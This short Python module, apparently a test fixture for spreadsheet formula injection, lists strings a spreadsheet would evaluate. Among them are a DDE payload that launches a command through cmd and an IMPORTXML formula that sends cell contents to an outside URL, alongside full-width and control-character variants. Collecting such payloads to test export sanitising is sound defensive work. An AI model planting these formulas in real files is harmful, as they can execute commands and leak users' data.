"""Texts that a spreadsheet would compute, where they stand in a cell as they are."""

from __future__ import annotations

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://example.com","点此")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=IMPORTXML(CONCAT("http://example.com/?",A1),"//a")',
)
